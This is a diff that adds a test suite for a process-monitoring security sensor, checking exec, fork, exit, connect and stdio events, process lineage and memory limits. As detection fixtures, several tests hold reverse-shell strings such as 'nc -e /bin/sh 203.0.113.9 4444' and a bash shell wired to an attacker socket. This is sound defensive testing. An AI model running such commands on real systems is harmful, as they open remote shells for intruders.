@@ -1,0 +1,643 @@
+import { setFlagsFromString } from 'node:v8'
+import { runInNewContext } from 'node:vm'
+import { describe, expect, test } from 'vitest'
+import type { RunningProcess } from '../../sensor/proc.ts'
+import { boot, devNull, machine, networkSocket, pipe, second, terminal } from './machine.ts'
+
+const attacker = { ip: '203.0.113.9', port: 4444 }
+const names = (ancestors: { name?: string }[] | undefined) => ancestors?.map(({ name }) => name)
+
+describe('an exec', () => {
+  test('tells all of its process', () => {
+    const { fork, exec, last, places } = machine()
+    fork(1, 10)
+    exec(10, 'curl', {
+      path: '/usr/bin/curl',
+      args: ['curl', '-s', 'https://x'],
+      directory: '/srv',
+      uid: 33,
+      gid: 34,
+      cgroup: '281474976710657',
+      stdio: [terminal(), devNull, undefined],
+    })
+    expect(last(10)).toEqual({
+      type: 'exec',
+      time: expect.closeTo(boot + 100_000.002, 3),
+      process: {
+        pid: 10,
+        ppid: 1,
+        start_time: expect.closeTo(boot + 100_000.001, 3),
+        name: 'curl',
+        executable: { path: '/usr/bin/curl', name: 'curl' },
+        command_args: ['curl', '-s', 'https://x'],
+        command_line: 'curl -s https://x',
+        working_directory: '/srv',
+        user: { id: 33 },
+        group: { id: 34 },
+        stdin: { type: 'tty' },
+        stdout: { type: 'null' },
+        stderr: { type: 'closed' },
+      },
+    })
+    expect(places).toEqual([{ pid: 10, cgroupId: '281474976710657' }])
+  })
+
+  test('says only what is so: a deleted executable, cut arguments, a shell and its commands', () => {
+    const { exec, last } = machine()
+    exec(10, 'bash -i', { path: '/memfd:x', deleted: true, argsCut: true })
+    expect(last(10).process).toMatchObject({ executable: { deleted: true }, args_truncated: true })
+    expect(last(10).process).not.toHaveProperty('reads_commands_from')
+    exec(11, 'bash -i')
+    expect(last(11).process).toMatchObject({ reads_commands_from: 'stdin' })
+    expect(last(11).process).not.toHaveProperty('args_truncated')
+    expect(last(11).process?.executable).not.toHaveProperty('deleted')
+  })
+
+  test('whose path was lost has neither executable nor name, and is an event all the same', () => {
+    const { exec, last } = machine()
+    exec(10, 'sh', { path: undefined, args: [], incomplete: true })
+    expect(last(10)).toMatchObject({ type: 'exec', process: { pid: 10, command_args: [] } })
+    expect(JSON.parse(JSON.stringify(last(10))).process).not.toHaveProperty('executable')
+    expect(JSON.parse(JSON.stringify(last(10))).process).not.toHaveProperty('name')
+  })
+
+  test('of a process whose fork was not seen is told, with the parent that the kernel names', () => {
+    const { exec, fork, last } = machine()
+    exec(10, 'nginx')
+    fork(10, 11, { seen: false })
+    exec(11, 'sh -c id')
+    expect(last(11).process).toMatchObject({ pid: 11, ppid: 10, start_time: expect.closeTo(boot + 100_000.002, 3) })
+    expect(names(last(11).process?.ancestors)).toEqual(['nginx'])
+  })
+
+  test('of a process that nothing is known of has no ancestors, rather than empty ones', () => {
+    const { exec, last } = machine()
+    exec(10, 'ls')
+    expect(last(10).process).not.toHaveProperty('ancestors')
+  })
+
+  test('an event keeps the description that was true for it', () => {
+    const { exec, events } = machine()
+    exec(10, 'sh -c ls')
+    exec(10, 'ls')
+    expect(events.map(({ process }) => process?.name)).toEqual(['sh', 'ls'])
+  })
+})
+
+describe('the program before', () => {
+  test('nc in `nc -e /bin/sh`', () => {
+    const { exec, last } = machine()
+    exec(10, 'nc -e /bin/sh 203.0.113.9 4444')
+    exec(10, 'sh')
+    expect(last(10).process?.previous).toEqual({ name: 'nc', command_line: 'nc -e /bin/sh 203.0.113.9 4444' })
+  })
+
+  test('is the one right before, not the first', () => {
+    const { exec, last } = machine()
+    for (const program of ['env', 'nohup', 'sh']) exec(10, program)
+    expect(last(10).process?.previous).toEqual({ name: 'nohup', command_line: 'nohup' })
+  })
+
+  test("is the process's own: the parent's program is none", () => {
+    const { exec, fork, last } = machine()
+    exec(10, 'bash')
+    fork(10, 11)
+    exec(11, 'ls')
+    expect(last(11).process).not.toHaveProperty('previous')
+  })
+
+  test('is not inherited', () => {
+    const { exec, fork, last, connect } = machine()
+    exec(10, 'env')
+    exec(10, 'bash')
+    fork(10, 11)
+    connect(11, attacker)
+    expect(last(11).process).not.toHaveProperty('previous')
+  })
+})
+
+describe('a process that has forked and executed nothing', () => {
+  test('is what its parent is, with a pid, a parent and a start of its own', () => {
+    const { exec, fork, connect, last } = machine()
+    exec(10, 'python3 server.py', { directory: '/srv' })
+    fork(10, 11)
+    connect(11, attacker)
+    expect(last(11)).toMatchObject({
+      type: 'connect',
+      process: {
+        pid: 11,
+        ppid: 10,
+        name: 'python3',
+        command_line: 'python3 server.py',
+        working_directory: '/srv',
+        start_time: expect.closeTo(boot + 100_000.002, 3),
+      },
+    })
+    expect(names(last(11).process?.ancestors)).toEqual(['python3'])
+  })
+})
+
+describe('lineage', () => {
+  test('is the nearest first', () => {
+    const { exec, fork, last } = machine()
+    exec(10, 'nginx')
+    fork(10, 11)
+    exec(11, 'sh -c id')
+    fork(11, 12)
+    exec(12, 'id')
+    expect(last(12).process?.ancestors?.map(({ pid, name, command_line }) => [pid, name, command_line])).toEqual([
+      [11, 'sh', 'sh -c id'],
+      [10, 'nginx', 'nginx'],
+    ])
+  })
+
+  test('stays when the parent has exited and the kernel calls init the parent', () => {
+    const { exec, fork, exit, last } = machine()
+    exec(10, 'nginx')
+    fork(10, 11)
+    exec(11, 'sh -c id')
+    fork(11, 12)
+    exit(11)
+    exec(12, 'id')
+    expect(last(12).process?.ppid).toBe(1)
+    expect(names(last(12).process?.ancestors)).toEqual(['sh', 'nginx'])
+  })
+
+  test('of a child that is forked and heard of only after its parent has gone is known for ten seconds', () => {
+    const { exec, fork, exit, wait, last } = machine()
+    exec(10, 'nginx')
+    fork(10, 11, { seen: false })
+    exit(10)
+    wait(9 * second)
+    exec(11, 'id', { ppid: 10 })
+    expect(names(last(11).process?.ancestors)).toEqual(['nginx'])
+  })
+
+  test('has 16 ancestors at most', () => {
+    const { exec, fork, last } = machine()
+    exec(100, 'p100')
+    for (let pid = 101; pid <= 130; pid++) {
+      fork(pid - 1, pid)
+      exec(pid, `p${pid}`)
+    }
+    expect(names(last(116).process?.ancestors)).toHaveLength(16)
+    expect(names(last(130).process?.ancestors)).toEqual(Array.from({ length: 16 }, (_, at) => `p${129 - at}`))
+  })
+
+  test('a process is described as it was when it forked: what it runs later is not its child’s ancestor', () => {
+    const { exec, fork, last } = machine()
+    exec(10, 'bash')
+    fork(10, 11)
+    exec(10, 'true')
+    exec(11, 'id')
+    expect(names(last(11).process?.ancestors)).toEqual(['bash'])
+  })
+
+  test('ancestors have none of their own, and no exit code of a parent that lived when it forked', () => {
+    const { exec, fork, exit, last } = machine()
+    exec(10, 'a')
+    fork(10, 11)
+    exec(11, 'b')
+    fork(11, 12)
+    exit(11, 0)
+    exec(12, 'c')
+    for (const ancestor of last(12).process?.ancestors ?? []) {
+      expect(ancestor).not.toHaveProperty('ancestors')
+      expect(ancestor).not.toHaveProperty('exit_code')
+    }
+  })
+})
+
+describe('a pid that is used again', () => {
+  test('is another process', () => {
+    const { exec, fork, exit, last } = machine()
+    exec(10, 'nginx')
+    fork(10, 11)
+    exec(11, 'nc 203.0.113.9 4444')
+    exit(11)
+    fork(1, 11)
+    exec(11, 'ls')
+    expect(last(11).process).toMatchObject({ name: 'ls', ppid: 1 })
+    expect(last(11).process).not.toHaveProperty('previous')
+    expect(last(11).process).not.toHaveProperty('ancestors')
+  })
+
+  test('is another process also when neither its fork nor the exit before were seen', () => {
+    const { exec, fork, exit, connect, last } = machine()
+    exec(10, 'nginx')
+    exit(10)
+    fork(1, 10, { seen: false })
+    connect(10, attacker)
+    expect(last(10).process).toMatchObject({ pid: 10 })
+    expect(last(10).process).not.toHaveProperty('name')
+    expect(last(10).process).not.toHaveProperty('exit_code')
+  })
+
+  test('is not forgotten with the one that had it before', () => {
+    const { exec, fork, exit, wait, last, table } = machine()
+    exec(10, 'first')
+    exit(10)
+    fork(1, 10)
+    exec(10, 'second')
+    wait(20 * second)
+    exec(99, 'any')
+    fork(10, 11)
+    exec(11, 'child')
+    expect(names(last(11).process?.ancestors)).toEqual(['second'])
+    expect(table.size()).toBe(3)
+  })
+})
+
+describe('an exit', () => {
+  test.each([
+    ['0', 0, 0],
+    ['1', 1 << 8, 1],
+    ['255', 255 << 8, 255],
+    ['by SIGKILL', 9, 137],
+    ['by SIGTERM', 15, 143],
+    ['by SIGSEGV with a core dump', 11 | 0x80, 139],
+  ])('%s is told as the shell has it in $?', (_, status, code) => {
+    const { exec, exit, last } = machine()
+    exec(10, 'job')
+    exit(10, status)
+    expect(last(10)).toMatchObject({ type: 'exit', process: { pid: 10, name: 'job', exit_code: code } })
+  })
+
+  test('of a process that is not known is nothing to tell', () => {
+    const { exit, events } = machine()
+    exit(10)
+    expect(events).toEqual([])
+  })
+
+  test('is told once', () => {
+    const { exec, exit, events } = machine()
+    exec(10, 'job')
+    exit(10)
+    exit(10)
+    expect(events.map(({ type }) => type)).toEqual(['exec', 'exit'])
+  })
+})
+
+describe('a connect', () => {
+  test('tells the two ends and the transport', () => {
+    const { exec, connect, last } = machine()
+    exec(10, 'curl')
+    connect(10, attacker)
+    expect(last(10)).toMatchObject({
+      type: 'connect',
+      destination: attacker,
+      source: { port: 40_000 },
+      network: { transport: 'tcp', type: 'ipv4' },
+    })
+  })
+
+  test('over IPv6', () => {
+    const { exec, connect, last } = machine()
+    exec(10, 'curl')
+    connect(10, { ip: 'fd00:ec2::254', port: 80 })
+    expect(last(10)).toMatchObject({ destination: { ip: 'fd00:ec2::254', port: 80 }, network: { type: 'ipv6' } })
+  })
+
+  test('as another user tells the user that it is by now', () => {
+    const { exec, setuid, last } = machine()
+    exec(10, 'nginx')
+    setuid(10, 33, 34, attacker)
+    expect(last(10).process).toMatchObject({ name: 'nginx', user: { id: 33 }, group: { id: 34 } })
+  })
+
+  test('of a process that the sensor knows nothing of is told', () => {
+    const { connect, last } = machine()
+    connect(10, attacker)
+    expect(last(10)).toMatchObject({ type: 'connect', destination: attacker, process: { pid: 10, ppid: 1 } })
+    expect(last(10).process).not.toHaveProperty('name')
+  })
+
+  test('of a process that the sensor knows nothing of has no start time, rather than one that is not true', () => {
+    const { connect, last } = machine()
+    connect(10, attacker)
+    expect(last(10).process).not.toHaveProperty('start_time')
+  })
+
+  test('without a peer is no event', () => {
+    const { apply, events, now } = machine()
+    const who = { time: now(), pid: 10, ppid: 1, cgroup: '1', uid: 0, gid: 0 }
+    apply({ act: 'connect', ...who, socket: { family: 'unix', stream: true, listening: false, port: 0, localPort: 0 } })
+    expect(events).toEqual([])
+  })
+})
+
+describe('the direction of a connection', () => {
+  const stdinOf = ({ last }: ReturnType<typeof machine>, pid: number) => last(pid).process?.stdin
+
+  test('that the process has opened is outbound', () => {
+    const host = machine()
+    host.exec(10, 'python3')
+    const socket = networkSocket(host.connect(10, attacker))
+    host.exec(10, 'sh', { stdio: [socket, socket, socket] })
+    expect(stdinOf(host, 10)).toEqual({ type: 'socket', peer: attacker, direction: 'outbound' })
+  })
+
+  test('that an ancestor has opened is outbound, generations later', () => {
+    const host = machine()
+    host.exec(10, 'python3')
+    const socket = networkSocket(host.connect(10, attacker))
+    for (const pid of [11, 12, 13]) {
+      host.fork(pid - 1, pid)
+      host.exec(pid, 'nohup')
+    }
+    host.exec(13, 'sh', { stdio: [socket, socket, socket] })
+    expect(stdinOf(host, 13)).toMatchObject({ direction: 'outbound' })
+  })
+
+  test('that the parent has accepted is inbound: inetd', () => {
+    const host = machine()
+    host.exec(10, 'inetd')
+    host.listen(10, 23)
+    const socket = networkSocket(host.accept(10, { ip: '192.0.2.7', port: 51_000 }, 23))
+    host.fork(10, 11)
+    host.exec(11, 'sh', { stdio: [socket, socket, socket] })
+    expect(stdinOf(host, 11)).toMatchObject({ peer: { ip: '192.0.2.7', port: 51_000 }, direction: 'inbound' })
+  })
+
+  test('of which neither was seen is absent', () => {
+    const host = machine()
+    host.exec(10, 'agent')
+    const socket = networkSocket(host.connect(10, attacker, { quiet: true }))
+    host.exec(10, 'sh', { stdio: [socket, socket, socket] })
+    expect(stdinOf(host, 10)).toEqual({ type: 'socket', peer: attacker })
+  })
+
+  test('of the last 16 connections is remembered', () => {
+    const host = machine()
+    host.exec(10, 'python3')
+    const first = networkSocket(host.connect(10, attacker))
+    for (let port = 1; port < 16; port++) host.connect(10, { ip: '192.0.2.1', port })
+    host.exec(10, 'sh', { stdio: [first] })
+    expect(stdinOf(host, 10)).toMatchObject({ direction: 'outbound' })
+  })
+
+  test('of a sibling says nothing of ours', () => {
+    const host = machine()
+    host.exec(10, 'bash')
+    host.fork(10, 11)
+    host.fork(10, 12)
+    host.connect(11, attacker)
+    const same = networkSocket({
+      family: 'ipv4',
+      stream: true,
+      listening: false,
+      ...attacker,
+      localPort: 8080,
+    })
+    host.exec(12, 'sh', { stdio: [same] })
+    expect(stdinOf(host, 12)).not.toHaveProperty('direction')
+  })
+})
+
+describe('a dup onto standard input', () => {
+  test('after the exec is an event of its own, with what is there now', () => {
+    const { exec, connect, dup, last } = machine()
+    exec(10, 'bash -i', { stdio: [terminal(), terminal(), terminal()] })
+    const socket = networkSocket(connect(10, attacker))
+    dup(10, [socket, socket, socket])
+    expect(last(10)).toMatchObject({
+      type: 'stdio',
+      process: {
+        name: 'bash',
+        stdin: { type: 'socket', peer: attacker, direction: 'outbound' },
+        stdout: { type: 'socket', peer: attacker, direction: 'outbound' },
+        stderr: { type: 'socket' },
+      },
+    })
+  })
+})
+
+describe('a server', () => {
+  test('is known by the socket that it listens on, at the exec of its child', () => {
+    const { exec, fork, listen, last } = machine()
+    exec(10, 'java -jar app.jar')
+    listen(10, 8080)
+    fork(10, 11)
+    exec(11, 'sh -c id')
+    expect(last(11).process?.ancestors?.[0]).toMatchObject({ name: 'java', listening: { port: 8080 } })
+    expect(last(11).process).not.toHaveProperty('listening')
+  })
+
+  test('stays one for the grandchild', () => {
+    const { exec, fork, listen, last } = machine()
+    exec(10, 'java -jar app.jar')
+    listen(10, 8080)
+    fork(10, 11)
+    exec(11, 'sh -c id')
+    fork(11, 12)
+    exec(12, 'id')
+    expect(last(12).process?.ancestors?.map(({ listening }) => listening)).toEqual([undefined, { port: 8080 }])
+  })
+
+  test('that has stopped listening is none for its next child', () => {
+    const { exec, fork, listen, close, last } = machine()
+    exec(10, 'nc -l 8080')
+    const listener = listen(10, 8080)
+    fork(10, 11)
+    exec(11, 'first')
+    close(10, listener)
+    fork(10, 12)
+    exec(12, 'second')
+    expect(last(11).process?.ancestors?.[0]).toMatchObject({ listening: { port: 8080 } })
+    expect(last(12).process?.ancestors?.[0]).not.toHaveProperty('listening')
+  })
+
+  test('lends its listening to no child', () => {
+    const { exec, fork, listen, connect, last } = machine()
+    exec(10, 'java -jar app.jar')
+    listen(10, 8080)
+    fork(10, 11)
+    exec(11, 'sh -c id')
+    fork(10, 12)
+    connect(12, attacker)
+    expect(last(12).process).not.toHaveProperty('listening')
+  })
+})
+
+describe('memory', () => {
+  test('of a hundred thousand short processes is given back', () => {
+    const { exec, fork, exit, wait, table, clear } = machine()
+    exec(10, 'make')
+    let highest = 0
+    for (let count = 0; count < 100_000; count++) {
+      const pid = 1000 + (count % 30_000)
+      fork(10, pid)
+      exec(pid, 'cc')
+      exit(pid)
+      wait(second / 1000)
+      highest = Math.max(highest, table.size())
+      clear()
+    }
+    // A thousand a second, remembered for ten seconds.
+    expect(highest).toBeLessThan(11_000)
+    wait(20 * second)
+    exec(10, 'make')
+    expect(table.size()).toBe(1)
+  })
+
+  /** Bytes that are in use once everything that can go is gone. */
+  const inUse = (): number => {
+    setFlagsFromString('--expose-gc')
+    const collect: () => void = runInNewContext('gc')
+    collect()
+    return process.memoryUsage().heapUsed
+  }
+
+  /** Each process makes the next one and exits, as a worm does that changes its pid. */
+  const relay = (host: ReturnType<typeof machine>, from: number, generations: number) => {
+    for (let generation = from; generation < from + generations; generation++) {
+      host.fork(1000 + (generation % 30_000), 1000 + ((generation + 1) % 30_000))
+      host.exec(1000 + ((generation + 1) % 30_000), 'worm', { args: ['worm', 'x'.repeat(100), String(generation)] })
+      host.exit(1000 + (generation % 30_000))
+      host.wait(second / 1000)
+      host.clear()
+    }
+  }
+
+  test('of a hundred thousand generations, each of which exits, is given back', () => {
+    const host = machine()
+    host.exec(1000, 'worm')
+    relay(host, 0, 20_000)
+    const before = inUse()
+    relay(host, 20_000, 80_000)
+    expect(inUse() - before).toBeLessThan(8 * 1024 * 1024)
+    host.exec(1, 'end')
+  })
+
+  test('of relays that put a socket in the place of their pipes is given back', () => {
+    const host = machine()
+    const relays = (count: number) => {
+      for (let pid = 1000; pid < 1000 + count; pid++) {
+        host.fork(1, pid)
+        host.exec(pid, 'relay', { stdio: [pipe(), pipe(), pipe()] })
+        const socket = networkSocket(host.connect(pid, attacker))
+        host.dup(pid, [socket, socket, socket])
+        host.exit(pid)
+        host.wait(second / 1000)
+        host.clear()
+      }
+      host.wait(20 * second)
+      host.exec(1, 'init')
+      host.clear()
+    }
+    relays(1000)
+    const before = inUse()
+    relays(10_000)
+    expect(inUse() - before).toBeLessThan(4 * 1024 * 1024)
+    host.exec(1, 'end')
+  })
+
+  test('of a connection: a process keeps the last sixteen', () => {
+    const host = machine()
+    host.exec(10, 'crawler')
+    for (let count = 0; count < 1000; count++) host.connect(10, { ip: '192.0.2.1', port: 1 + count })
+    const before = inUse()
+    for (let count = 0; count < 50_000; count++) {
+      host.close(10, host.connect(10, { ip: '192.0.2.1', port: 1 + (count % 60_000) }))
+      host.clear()
+    }
+    expect(inUse() - before).toBeLessThan(8 * 1024 * 1024)
+    host.exec(10, 'end')
+  })
+})
+
+describe('processes that were there before the sensor', () => {
+  const running = (pid: number, ppid: number, changes: Partial<RunningProcess> = {}): RunningProcess => {
+    const name = `p${pid}`
+    const args = [name, '--serve']
+    return {
+      pid,
+      ppid,
+      started: pid * second,
+      comm: name,
+      args,
+      uid: 0,
+      gid: 0,
+      executable: `/bin/${name}`,
+      ...changes,
+    }
+  }
+
+  test('are ancestors, whatever their numbers and their order', () => {
+    const { table, fork, exec, last } = machine()
+    table.prime([running(20, 500), running(500, 3), running(3, 1), running(1, 0)])
+    fork(20, 600)
+    exec(600, 'sh')
+    expect(names(last(600).process?.ancestors)).toEqual(['p20', 'p500', 'p3', 'p1'])
+    expect(last(600).process?.ancestors?.[0]).toEqual({
+      pid: 20,
+      ppid: 500,
+      start_time: boot + 20_000,
+      name: 'p20',
+      executable: { path: '/bin/p20', name: 'p20' },
+      command_args: ['p20', '--serve'],
+      command_line: 'p20 --serve',
+      user: { id: 0 },
+      group: { id: 0 },
+    })
+  })
+
+  test('of which the executable can not be read have the name that the kernel has', () => {
+    const { table, fork, exec, last } = machine()
+    table.prime([running(2, 0, { comm: 'kthreadd', args: [], executable: undefined })])
+    fork(2, 600)
+    exec(600, 'modprobe')
+    expect(last(600).process?.ancestors?.[0]).toMatchObject({ name: 'kthreadd', command_line: '' })
+    expect(last(600).process?.ancestors?.[0]).not.toHaveProperty('executable')
+  })
+
+  test('whose executable was deleted say so', () => {
+    const { table, fork, exec, last } = machine()
+    table.prime([running(7, 1, { executable: '/tmp/x (deleted)' })])
+    fork(7, 8)
+    exec(8, 'sh')
+    expect(last(8).process?.ancestors?.[0]).toMatchObject({
+      name: 'x',
+      executable: { path: '/tmp/x', name: 'x', deleted: true },
+    })
+  })
+
+  test('have their previous program, if they execute another', () => {
+    const { table, exec, last } = machine()
+    table.prime([running(7, 1)])
+    exec(7, 'sh')
+    expect(last(7).process?.previous).toEqual({ name: 'p7', command_line: 'p7 --serve' })
+  })
+
+  test('are not overwritten: what the kernel told is more than /proc knows', () => {
+    const { table, exec, fork, last } = machine()
+    exec(10, 'nginx', { directory: '/srv' })
+    table.prime([running(10, 1, { started: 100 * second })])
+    fork(10, 11)
+    exec(11, 'sh')
+    expect(last(11).process?.ancestors?.[0]).toMatchObject({ name: 'nginx', working_directory: '/srv' })
+  })
+
+  test('that are gone by the time of another look are forgotten', () => {
+    const { table } = machine()
+    table.prime([running(1, 0), running(2, 1), running(3, 1)])
+    expect(table.size()).toBe(3)
+    table.prime([running(1, 0), running(3, 1)])
+    expect(table.size()).toBe(2)
+  })
+
+  test('while the sensor was blind, and have the pid of one from before, are not taken for that one', () => {
+    const { table, exec, fork, last } = machine()
+    exec(10, 'nginx')
+    table.prime([running(10, 1, { started: 500 * second })])
+    fork(10, 11)
+    exec(11, 'sh')
+    expect(names(last(11).process?.ancestors)).toEqual(['p10'])
+  })
+
+  test('a circle of parents, as of a /proc that changes while it is read, ends', () => {
+    const { table } = machine()
+    table.prime([running(1, 2), running(2, 1), running(3, 3)])
+    expect(table.size()).toBe(3)
+  })
+})
